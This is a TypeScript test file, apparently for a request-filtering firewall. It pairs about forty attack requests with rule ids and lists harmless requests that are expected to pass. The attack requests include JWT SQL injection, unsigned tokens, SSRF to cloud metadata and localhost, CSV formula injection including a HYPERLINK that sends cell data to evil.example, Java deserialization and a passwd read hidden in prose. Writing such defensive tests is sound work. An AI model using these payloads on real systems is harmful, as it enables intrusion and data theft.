import { testAttacks, testHarmless } from './core-testing.ts'
import type { TestRequest } from './engine/testing.ts'

const json = (value: unknown): TestRequest => ({
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify(value),
})
const xml = (body: string): TestRequest => ({
  method: 'POST',
  headers: { 'Content-Type': 'application/xml' },
  body,
})
const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const jwt = (header: unknown, payload: unknown, signature = 'c2ln'): string =>
  `${part(header)}.${part(payload)}.${signature}`
const bearer = (token: string): TestRequest => ({ headers: { Authorization: `Bearer ${token}` } })
const upload = (fileName: string, content = 'x'): TestRequest => ({
  method: 'POST',
  headers: { 'Content-Type': 'multipart/form-data; boundary=b0b' },
  body: `--b0b\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\n${content}\r\n--b0b--\r\n`,
})

const HS256 = { alg: 'HS256' }
const attacks: readonly (readonly [string, number, TestRequest])[] = [
  ['SQL in a claim', 2043, bearer(jwt(HS256, { sub: "1' or '1'='1" }))],
  ['SQL of plain words in a claim', 2043, bearer(jwt(HS256, { sub: '1 union select password from users' }))],
  [
    'a script in a claim of a parameter',
    2051,
    { target: `/x?t=${jwt(HS256, { n: '<script>alert(1)</script>' })}` },
  ],
  ['a template in a claim of a field', 2065, json({ token: jwt(HS256, { name: '{{7*7}}' }) })],
  [
    'SQL in a claim of a cookie',
    2041,
    { headers: { Cookie: `session=${jwt(HS256, { id: "a' or 1=1--" })}` } },
  ],
  ['SQL in the name of a key', 2043, bearer(jwt({ ...HS256, kid: "x' union select 'k" }, { sub: '1' }))],
  ['a key from a file', 2176, bearer(jwt({ ...HS256, kid: '../../dev/null' }, { sub: '1' }))],
  ['a key from the machine itself', 2176, bearer(jwt({ ...HS256, jku: 'http://127.0.0.1/k' }, { sub: '1' }))],
  ['a token without a signature', 2172, bearer(jwt({ alg: 'none' }, { sub: 'admin' }, ''))],
  [
    'a token that says it has none',
    2172,
    { target: `/x?t=${jwt({ typ: 'JWT', alg: 'nOnE' }, { sub: 'admin' })}` },
  ],
  ['SQL in the name of a user', 2043, { headers: { Authorization: `Basic ${btoa("admin' or '1'='1:x")}` } }],
  ['a path in place of credentials', 2168, { headers: { Authorization: '../../../../etc/passwd' } }],
  ['a condition in place of credentials', 2168, { headers: { Authorization: "1' or '1'='1" } }],
  ['a private address in a field for one', 2171, json({ webhook_url: 'http://10.0.0.5/admin' })],
  [
    'a name of a cluster',
    2171,
    json({ avatar: { imageUrl: 'http://vault.default.svc.cluster.local:8200/' } }),
  ],
  [
    'metadata where a browser is to go',
    2079,
    { target: '/login?redirect_uri=http://169.254.169.254/latest' },
  ],
  [
    'a door of the machine where a browser is to go',
    2079,
    { target: '/login?return_url=http://localhost:8080/admin' },
  ],
  ['a database of the machine as an origin', 2079, json({ allowed_origins: ['http://127.0.0.1:6379'] })],
  ['a disguised machine as a home page', 2079, json({ homepage: 'http://0x7f.1/' })],
  [
    'metadata in what a resource says of itself',
    2079,
    json({ repository: { url: 'http://metadata.google.internal/computeMetadata/v1/' } }),
  ],
  ['the machine in a field that is called', 2075, json({ webhook_url: 'http://localhost:3000/hook' })],
  ['the machine in any other field', 2075, json({ note: 'http://localhost/' })],
  [
    'the machine beside what may name it',
    2075,
    json({ homepage: 'http://localhost:3000', image: 'http://localhost:3000' }),
  ],
  ['a host of one label', 2171, { target: '/fetch?url=http://redis:6379/' }],
  ['metadata in a header field', 2173, { headers: { 'X-Target': 'http://169.254.169.254/latest/' } }],
  ['metadata in a cookie', 2173, { headers: { Cookie: 'next=http%3A//169.254.169.254/' } }],
  ['metadata in the name of a field', 2173, json({ 'http://metadata.google.internal/': 1 })],
  ['a formula that starts a program', 2174, json({ name: "=cmd|'/C calc'!A0" })],
  ['a formula behind a number', 2174, upload('a.csv', "1,@SUM(1+1)*cmd|'/C calc'!A0")],
  ['a formula that sends a cell away', 2174, json({ name: '=HYPERLINK("http://evil.example?x="&A1,"x")' })],
  ['an include of an edge server', 2175, json({ text: '<esi:include src="http://evil.example/"/>' })],
  ['many calls in one', 2175, xml('<methodCall><methodName>system.multicall</methodName></methodCall>')],
  [
    'a class as an element',
    2175,
    { ...json({}), body: JSON.stringify({ x: '<map><jdk.nashorn.internal.objects.NativeString/></map>' }) },
  ],
  [
    'an object of Java in a header field',
    2085,
    { headers: { 'X-State': 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' } },
  ],
  ['SQL in the name of a file', 2041, upload("x' or 1=1--.png")],
  ['a name that is shown from right to left', 2078, upload('a.php\u00e2\u0080\u00aegpj')],
  ['a command of Redis', 2177, json({ q: 'CONFIG GET *' })],
  ['a command behind prose', 2061, json({ text: 'Please convert the whole file now; cat /etc/passwd' })],
  ['SQL behind prose and a quote', 2041, json({ text: "I like this nice product' union select 1,2,3-- " })],
]

testAttacks(attacks)

const mail = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />
<link rel="stylesheet" href="https://fonts.example.com/css?family=Inter" /><style type="text/css">@media only screen { a { color: #fff; } } body { -ms-text-size-adjust: 100%; }</style>
<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<script type="application/ld+json">{"@context":"http://schema.org","@type":"EmailMessage"}</script></head>
<body style="margin:0;background:url('https://example.com/a.png')"><table><tr><td>Hello Ada,</td></tr></table></body></html>`

const report = `TypeError: cannot read x of null
    at Object.run (/srv/app/node_modules/child_process/index.js:3:1)
    at org.springframework.context.Loader.load(Loader.java:7)`

const harmless: readonly (readonly [string, TestRequest])[] = [
  [
    'a piece of a program',
    json({
      code: "const show = text => {\n  const el = document.createElement('p');\n  el.innerHTML = text;\n  setTimeout(show, 10);\n};\n",
    }),
  ],
  [
    'the addresses of an application that is being developed',
    json({
      redirectUris: [
        'http://localhost:3000/callback',
        'http://127.0.0.1:51004/',
        'com.example.app://localhost/done',
      ],
      allowed_origins: ['http://localhost:5173', 'capacitor://localhost'],
      success_url: 'http://localhost:3000/paid?session={id}',
      post_logout_redirect_uri: 'http://localhost:4200/',
      page: { referrer: 'http://localhost:8080/shop' },
    }),
  ],
  [
    'a message of a repository that is hosted in a private network',
    json({
      repository: {
        html_url: 'https://git.corp.local/ada/shop',
        ssh_url: 'ssh://git@localhost:3022/ada/shop.git',
      },
      sender: { avatar_url: 'http://localhost:3000/avatars/7' },
      links: { self: [{ href: 'https://git.intranet/users/ada' }] },
      compare_url: 'http://localhost:3000/ada/shop/compare/1...2',
    }),
  ],
  ['settings of mail', json({ text: 'spring:\n  mail:\n    host: smtp.example.com\n    port: 587\n' })],
  ['a mail', json({ html: mail })],
  ['a report of an error', json({ stack: report })],
  [
    'a question about code',
    json({ text: 'How do I stop this from crashing? I call java.lang.Runtime and os.system(cmd) in it.' }),
  ],
  [
    'a question about SQL',
    json({ text: 'Write a query for me that explains this: SELECT name FROM users WHERE age > 30;' }),
  ],
  [
    'a page of documentation',
    json({
      text: '# tar\n\n> Keeps many files in one.\n\n- Show what is in it:\n\n`tar tf a.tgz | grep x`\n\n`sudo tar xf a.tgz && ls -la /tmp`',
    }),
  ],
  ['a script for a new machine', json({ script: '#!/bin/bash\napt-get update\necho done > /tmp/x\n' })],
  [
    'a command of a container',
    json({ command: 'python manage.py cleanup --days 7', args: '-v $(pwd):/app' }),
  ],
  ['fields to be answered', { target: '/x?fields=id,name,items{id,price}' }],
  ['a time zone', json({ timezone: 'Etc/UTC' })],
  [
    'a token',
    bearer(
      jwt(
        { alg: 'RS256', kid: 'key-1' },
        { iss: 'http://localhost:8080/', sub: 'auth0|5f7c', name: 'Ada Lovelace', scope: 'openid profile' },
      ),
    ),
  ],
  [
    'a token with an apostrophe',
    bearer(jwt({ alg: 'RS256' }, { name: "Conan O'Brien", email: "o'brien@example.com" })),
  ],
  [
    'a digest',
    {
      headers: {
        Authorization: 'Digest username="ada", realm="a b", nonce="x=", uri="/a?b=c", response="6629fa" }',
      },
    },
  ],
  [
    'a signature of Amazon',
    {
      headers: {
        Authorization:
          'AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu/s3/aws4_request, SignedHeaders=host;range, Signature=fe5f',
      },
    },
  ],
  ['a private address in a field for no call', json({ node: 'http://10.0.0.5:9100/metrics' })],
  ['a bucket', json({ image_url: 's3://bucket/key.png' })],
  ['a sum', json({ cell: '=SUM(A1:A10)', phone: '+49 30 1234' })],
]

testHarmless(harmless)
